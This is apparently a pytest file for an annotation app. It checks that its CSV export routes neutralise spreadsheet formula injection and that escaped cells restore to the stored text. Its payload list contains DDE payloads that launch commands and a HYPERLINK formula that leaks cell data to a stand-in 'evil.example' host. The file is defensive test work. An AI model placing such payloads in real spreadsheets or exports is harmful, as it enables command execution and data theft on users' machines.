"""CSV downloads survive a formula-injection corpus: no cell a spreadsheet would evaluate.

The payloads go in where users and authors can put text -- notes, quotes (the article's
own words), article titles and URLs, reviewers' display names -- and come out of the real
download route. Every text cell is checked: none may start with a character that makes
Excel, LibreOffice or Google Sheets treat it as a formula (OWASP CSV Injection), and
undoing the neutralisation gives back exactly what was stored.
"""

from __future__ import annotations

import csv
import io

import pytest

from annotator.domain.formats.csv_safe import DANGEROUS_FIRST, restore_cell
from tests.functional.exports_data import annotate

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "=1\n=2",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=already quoted",
    "''=twice",
    "'",
    '"=quoted"',
    "=",
    "- a dash list item",
]
NUMERIC = {
    "article_id",
    "start",
    "end",
    "id",
    "version",
    "assigned",
    "submitted",
    "precision",
    "recall",
    "f1",
    "gold_articles",
}


@pytest.fixture
def hostile(make):
    project = make.project("class", title="=Klasse")
    teacher = make.user("teacher")
    make.member(project, teacher, "instructor")
    reviewer = make.user("rita", name='=HYPERLINK("x")')
    make.member(project, reviewer, "reviewer")
    # the article's own lines start with formulas, so quotes can too
    text = "\n".join(payload.replace("\r", " ").replace("\n", " ") for payload in PAYLOADS)
    article = make.article(project, text=text, title="@Titel =1", url="https://x.example/=1")
    make.assign(project, article, reviewer)
    stored = []
    for n, payload in enumerate(PAYLOADS):
        line = text.split("\n")[n]
        if line.strip() and line != "'":
            annotate(reviewer, article, line, "loaded-language", note=payload)
            stored.append((line, payload))
    from annotator.services.answers import set_answer

    set_answer(reviewer, article.id, "genre", {"value": "reporting"})
    return stored


def _cells(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("fmt", ["csv", "answers-csv", "results-csv"])
@pytest.mark.parametrize("bom", ["0", "1"])
def test_no_downloaded_cell_starts_like_a_formula(hostile, browser, fmt, bom):
    response = browser("teacher").get(f"/projects/class/export/{fmt}?bom={bom}")
    assert response.status_code == 200
    table = _cells(response.get_data())
    assert table, "the corpus produced no rows"
    for row in table:
        for column, cell in row.items():
            if column in NUMERIC:
                assert cell == "" or cell.replace(".", "", 1).isdigit(), (column, cell)
            else:
                assert not cell or cell[0] not in DANGEROUS_FIRST, (column, cell)


def test_neutralised_cells_restore_to_exactly_what_was_stored(hostile, browser):
    table = _cells(browser("teacher").get("/projects/class/export/csv").get_data())
    exported = sorted((restore_cell(r["quote"]), restore_cell(r["note"])) for r in table)
    assert exported == sorted(hostile)
    assert {restore_cell(r["title"]) for r in table} == {"@Titel =1"}
    assert {restore_cell(r["project"]) for r in table} == {"class"}
    assert {restore_cell(r["reviewer_name"]) for r in table} == {'=HYPERLINK("x")'}


def test_exported_csv_reimports_as_the_same_spans(hostile, browser, make):
    """What a spreadsheet user would do: keep the columns the importer reads, re-import."""
    from sqlalchemy import func, select

    from annotator.app.extensions import db
    from annotator.models import Annotation

    table = _cells(browser("teacher").get("/projects/class/export/csv").get_data())
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["article", "reviewer", "label", "start", "end", "quote", "note"])
    for r in table:
        writer.writerow(
            [
                r["article_id"],
                r["reviewer"],
                r["label"],
                r["start"],
                r["end"],
                r["quote"],
                r["note"],
            ]
        )
    before = db.session.execute(select(func.count(Annotation.id))).scalar_one()
    response = browser("teacher").form_post(
        "/projects/class/import",
        data={"format": "csv", "file": (io.BytesIO(out.getvalue().encode()), "again.csv")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    page = response.get_data(as_text=True)
    assert f"skipped {len(table)} annotation(s)" in page, page
    assert db.session.execute(select(func.count(Annotation.id))).scalar_one() == before
